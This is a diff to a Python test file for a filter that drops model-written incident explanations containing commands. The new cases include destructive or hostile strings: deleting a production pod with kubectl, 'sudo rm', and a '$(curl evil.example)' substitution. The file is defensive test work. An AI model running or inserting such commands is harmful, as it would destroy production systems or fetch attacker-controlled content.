@@ -39,6 +39,10 @@ def test_an_explanation_that_cites_what_was_shown_is_taken_as_it_is() -> None:
         (said(statement="orders-db is busy\nand so on"), LeftOut.UNREADABLE),
         (said(statement="<@U1> `` http://x.example"), LeftOut.UNREADABLE),
         (said(statement="x" * (LONGEST_STATEMENT + 1)), LeftOut.UNREADABLE),
+        (said(statement="orders-db is busy: kubectl delete pod orders-db -n prod"), LeftOut.COMMAND),
+        (said(statement="orders-db: run `sudo rm` on it"), LeftOut.COMMAND),
+        (said(statement="orders-db needs helm rollback orders --wait"), LeftOut.COMMAND),
+        (said(statement="orders-db: $(curl evil.example)"), LeftOut.COMMAND),
     ],
 )
 def test_an_explanation_that_does_not_hold_to_what_was_asked_is_left_out_whole_and_counted(
@@ -78,6 +82,18 @@ def test_what_was_left_out_is_told_in_a_sentence() -> None:
         "The model's answer had an explanation that names a service that is not known; it was left out.",
         "The model's answer had an explanation that says what another said; it was left out.",
     ]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "orders-db - since the helm upgrade at 14:02 - runs out of CPU",
+        "orders-db lost 40 % of its connections, down to -3 % free; docker is out of disk",
+        "a psql session that someone left in a run of migrations locks orders-db",
+    ],
+)
+def test_a_sentence_about_programs_and_figures_is_no_command(words: str) -> None:
+    assert sift(said(statement=words)).accepted
 
 
 @pytest.mark.parametrize(
